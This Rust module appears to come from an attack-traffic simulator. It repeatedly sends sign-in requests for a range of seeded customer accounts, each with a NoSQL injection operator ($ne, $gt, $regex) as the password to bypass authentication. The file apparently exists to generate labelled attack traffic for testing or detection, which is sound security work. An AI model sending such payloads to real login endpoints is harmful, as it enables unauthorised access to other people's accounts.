//! A password that is a condition: any but the empty one, any that is greater, any that has letters.

use http::Method;
use serde_json::json;

use super::Attacker;

/// Customers who are to be signed in as; none of them shops.
const VICTIMS: std::ops::Range<usize> = 50..56;

pub(crate) async fn run(mut attacker: Attacker) {
    let mut client = attacker.client(8, "python-requests/2.32");
    loop {
        for victim in VICTIMS {
            for condition in [json!({ "$ne": "" }), json!({ "$gt": "" }), json!({ "$regex": "pepper" })] {
                if attacker.pause(400).await {
                    return;
                }
                let email = crate::data::customer(victim).1;
                let sign_in =
                    json!({ "email": email, "password": condition, "client": "nosqli" }).to_string();
                attacker.send(&mut client, Method::POST, "/accounts/sign-in", sign_in).await;
            }
        }
    }
}
